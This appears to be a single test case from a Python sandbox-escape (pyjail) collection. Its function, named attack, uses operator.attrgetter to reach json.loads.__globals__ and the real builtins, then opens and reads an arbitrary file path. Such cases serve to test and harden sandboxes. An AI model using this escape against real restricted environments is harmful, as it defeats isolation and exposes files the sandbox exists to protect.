# The same with several names, of which one has a dot.
# after: read
# source: pyjail: attrgetter
import json
from operator import attrgetter
def attack(path, **_):
    _, found = attrgetter("loads", "loads.__globals__")(json)
    return {"text": found["__builtins__"]["open"](path).read()}
